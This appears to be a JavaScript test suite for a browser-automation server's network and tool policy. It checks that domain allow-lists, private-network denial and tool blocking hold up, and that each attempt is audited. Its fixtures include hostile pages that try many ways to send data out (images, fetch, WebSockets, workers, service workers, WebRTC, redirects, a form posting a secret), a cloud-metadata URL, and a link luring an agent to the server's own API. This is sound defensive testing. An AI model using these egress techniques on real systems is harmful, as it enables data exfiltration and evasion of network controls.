// Rules about the network and tools, with a page that tries every way out.
import assert from 'node:assert/strict';
import { once } from 'node:events';
import { writeFile } from 'node:fs/promises';
import { createServer } from 'node:net';
import { createSocket } from 'node:dgram';
import { join } from 'node:path';
import { suite, test } from 'node:test';

import { serve } from './browser_support.mjs';
import { open } from './policy_support.mjs';
import { startServer, temporaryDirectory, text, troupe } from './support.mjs';

// Somebody who counts every connection and datagram, whatever it is for.
async function lurk(t) {
  const lurker = { connections: 0, datagrams: 0 };
  const server = createServer(socket => {
    lurker.connections += 1;
    socket.destroy();
  }).listen(0, '127.0.0.1');
  await once(server, 'listening');
  lurker.port = server.address().port;
  const datagrams = createSocket('udp4').on('message', () => (lurker.datagrams += 1)).bind(lurker.port, '127.0.0.1');
  await once(datagrams, 'listening');
  t.after(() => (server.close(), datagrams.close()));
  lurker.url = `http://127.0.0.1:${lurker.port}`;
  return lurker;
}

// Each tries to reach `to` and is done when the browser says that it has failed, or has not.
const waysOut = {
  image: to => `new Promise(done => { const image = new Image(); image.onload = image.onerror = done; image.src = '${to}/image'; })`,
  fetch: to => `fetch('${to}/fetch', { mode: 'no-cors' }).catch(() => {})`,
  script: to => `new Promise(done => { const script = document.createElement('script'); script.onload = script.onerror = done; script.src = '${to}/script'; document.head.append(script); })`,
  style: to => `new Promise(done => { const link = document.createElement('link'); link.rel = 'stylesheet'; link.onload = link.onerror = done; link.href = '${to}/style'; document.head.append(link); })`,
  preload: to => `new Promise(done => { const link = document.createElement('link'); link.rel = 'preload'; link.as = 'image'; link.onload = link.onerror = done; link.href = '${to}/preload'; document.head.append(link); })`,
  redirect: () => `fetch('/away', { mode: 'no-cors' }).catch(() => {})`,
  frame: to => `new Promise(done => { const frame = document.createElement('iframe'); frame.onload = done; frame.src = '${to}/frame'; document.body.append(frame); })`,
  webSocket: to => `new Promise(done => { const socket = new WebSocket('${to.replace('http', 'ws')}/socket'); socket.onopen = socket.onerror = done; })`,
  eventSource: to => `new Promise(done => { const source = new EventSource('${to}/events'); source.onopen = source.onerror = () => (source.close(), done()); })`,
  worker: to => `new Promise(done => { new Worker(URL.createObjectURL(new Blob(["fetch('${to}/worker', { mode: 'no-cors' }).catch(() => {}).then(() => postMessage(0))"]))).onmessage = done; })`,
  sharedWorker: to => `new Promise(done => { const worker = new SharedWorker('/shared.js?' + encodeURIComponent('${to}')); worker.port.onmessage = done; worker.onerror = done; worker.port.start(); })`,
  serviceWorker: () => `navigator.serviceWorker.register('/service.js').then(async registration => { const { active, installing } = registration; await new Promise(done => { navigator.serviceWorker.onmessage = done; (active ?? installing).postMessage(0); }); }).catch(() => {})`,
  webRtc: to => `new Promise(async done => { const peer = new RTCPeerConnection({ iceServers: [{ urls: ['stun:127.0.0.1:${new URL(to).port}', 'turn:127.0.0.1:${new URL(to).port}?transport=tcp'], username: 'a', credential: 'b' }] }); peer.onicegatheringstatechange = () => { if (peer.iceGatheringState === 'complete') done(); }; peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer()); })`,
};

const hostilePages = evil => ({
  '/': '<title>Hostile</title><button onclick="window.open(\'' + evil + '/popup\')">Popup</button><a href="' + evil + '/link">Link</a>'
    + '<form action="' + evil + '/form" method="post"><input name="secret" value="1"><button>Post</button></form>',
  '/away': (_, response) => response.writeHead(302, { Location: `${evil}/redirect` }).end(),
  '/refresh': `<meta http-equiv="refresh" content="0; url=${evil}/refresh">`,
  '/shared.js': (request, response) => response.writeHead(200, { 'Content-Type': 'text/javascript' })
    .end("onconnect = ({ ports: [port] }) => fetch(decodeURIComponent(location.search.slice(1)) + '/shared', { mode: 'no-cors' }).catch(() => {}).then(() => port.postMessage(0));"),
  '/service.js': (_, response) => response.writeHead(200, { 'Content-Type': 'text/javascript' })
    .end(`onmessage = event => event.waitUntil(fetch('${evil}/service', { mode: 'no-cors' }).catch(() => {}).then(() => event.source.postMessage(0)));`),
});

suite('A page that may reach only its own domain', () => {
  test('finds no way out, and every try is in the audit log', async t => {
    const lurker = await lurk(t);
    const site = await serve(t, hostilePages(lurker.url));
    const browser = await open(t, { allowedDomains: ['localhost'] });
    await browser.call('browser_navigate', { url: site });

    for (const [way, attempt] of Object.entries(waysOut)) {
      const before = (await browser.audit()).length;
      const tried = await browser.call('browser_evaluate', { function: `() => ${attempt(lurker.url)}` }, 60_000);
      assert.ok(!tried.isError, `${way}: ${tried.text}`);
      assert.equal(lurker.connections + lurker.datagrams, 0, way);
      // No proxy is asked for what takes none.
      if (way !== 'webRtc') assert.ok((await browser.audit()).length > before, `${way} is not in the audit log`);
    }
    await browser.call('browser_click', { element: 'Popup', target: 'text=Popup' });
    await browser.call('browser_tabs', { action: 'select', index: 0 });
    await browser.call('browser_click', { element: 'Post', target: 'text=Post' });
    await browser.call('browser_navigate', { url: site });
    await browser.call('browser_click', { element: 'Link', target: 'text=Link' });
    await browser.call('browser_navigate', { url: `${site}/refresh` });

    const redirected = await browser.call('browser_navigate', { url: `${site}/away` });
    assert.ok(redirected.isError);
    assert.match(redirected.text, /denied by the list of allowed domains/);
    const direct = await browser.call('browser_navigate', { url: `${lurker.url}/direct` });
    assert.match(direct.text, /is denied by the list of allowed domains/);
    assert.equal(lurker.connections + lurker.datagrams, 0);
    const denied = (await browser.audit()).map(({ what }) => what).join('\n');
    for (const path of ['/popup', '/form', '/link', '/refresh', '/redirect', '/direct']) assert.match(denied, new RegExp(path));
    assert.match(denied, new RegExp(`127.0.0.1:${lurker.port}`));
  });

  test('is served as ever where the rules let it', async t => {
    const posted = [];
    const site = await serve(t, {
      '/': `<title>Fine</title><script>
        fetch('/data', { method: 'POST', body: 'x'.repeat(300000) }).then(r => r.text()).then(text => { document.title = text; });</script>`,
      '/data': async (request, response) => {
        for await (const chunk of request) posted.push(chunk.length);
        response.end('answered');
      },
    });
    const browser = await open(t, { allowedDomains: ['localhost'] });
    await browser.call('browser_navigate', { url: site });
    assert.match((await browser.call('browser_wait_for', { text: 'nothing', time: 0 })).text, /./);
    const title = await browser.call('browser_evaluate', {
      function: "() => new Promise(done => { const look = () => document.title === 'answered' ? done(document.title) : requestAnimationFrame(look); look(); })",
    });
    assert.match(title.text, /answered/);
    assert.equal(posted.reduce((sum, length) => sum + length, 0), 300000);
    assert.deepEqual(await browser.audit(), []);
  });
});

test('Private networks are kept from pages', async t => {
  const lurker = await lurk(t);
  const browser = await open(t, { denyPrivateNetworks: true });
  for (const url of [lurker.url, `http://localhost:${lurker.port}`, 'http://169.254.169.254/latest/meta-data']) {
    const answer = await browser.call('browser_navigate', { url });
    assert.ok(answer.isError);
    assert.match(answer.text, /denied by security\.denyPrivateNetworks/);
  }
  await browser.call('browser_navigate', { url: 'data:text/html,<title>Inline</title>' });
  await browser.call('browser_evaluate', { function: `() => ${waysOut.fetch(lurker.url)}` });
  await browser.call('browser_evaluate', { function: `() => ${waysOut.webSocket(lurker.url)}` });
  assert.equal(lurker.connections, 0);
});

test('Tools that are forbidden are not listed, and say why when called', async t => {
  const browser = await open(t, { enableScriptEvaluation: false, enableFileUpload: false, blockedTools: ['browser_network_*'] });
  const { tools } = await browser.request('tools/list', {});
  const names = tools.map(({ name }) => name);
  for (const [name, rule] of [
    ['browser_evaluate', 'enableScriptEvaluation'],
    ['browser_run_code_unsafe', 'enableScriptEvaluation'],
    ['browser_file_upload', 'enableFileUpload'],
    ['browser_network_requests', 'blockedTools'],
  ]) {
    assert.ok(!names.includes(name), name);
    const answer = await browser.call(name, {});
    assert.ok(answer.isError);
    assert.match(answer.text, new RegExp(`is denied by security\\.${rule}`));
  }
  assert.ok(names.includes('browser_click'));
  assert.equal((await browser.audit()).length, 4);
});

test('A rule that cannot be enforced keeps the server from starting', async t => {
  const directory = await temporaryDirectory(t);
  const config = join(directory, 'config.json');
  await writeFile(config, JSON.stringify({ security: { denyPrivateNetworks: true } }));
  await assert.rejects(
    startServer(t, troupe, ['--config', config, '--proxy-server', 'http://proxy.example:3128']),
    /ended with 1[^]*would lead around it/,
  );
});

test('This server is out of reach for its own agents', async t => {
  const directory = await temporaryDirectory(t);
  const server = await startServer(t, troupe, ['--headless', '--isolated'], { cwd: directory, env: { HOME: directory, XDG_STATE_HOME: directory } });
  const { Client } = await import('@modelcontextprotocol/sdk/client/index.js');
  const { StreamableHTTPClientTransport } = await import('@modelcontextprotocol/sdk/client/streamableHttp.js');
  const client = new Client({ name: 'policy', version: '1' });
  await client.connect(new StreamableHTTPClientTransport(server.url('/mcp')));
  t.after(() => client.close());
  for (const host of ['localhost', '127.0.0.1']) {
    const answer = await client.callTool({ name: 'browser_navigate', arguments: { url: `http://${host}:${server.port}/metrics` } });
    assert.ok(answer.isError);
    assert.match(text(answer), /never reach this server/);
  }
  // Nor does a page get there that leads its agent on.
  const site = await serve(t, { '/': `<a href="http://localhost:${server.port}/api/history">The record</a>` });
  await client.callTool({ name: 'browser_navigate', arguments: { url: site } });
  await client.callTool({ name: 'browser_click', arguments: { element: 'The record', target: 'a' } });
  const seen = await client.callTool({ name: 'browser_evaluate', arguments: { function: '() => document.body.innerText' } });
  assert.match(text(seen), /FORBIDDEN/);
});
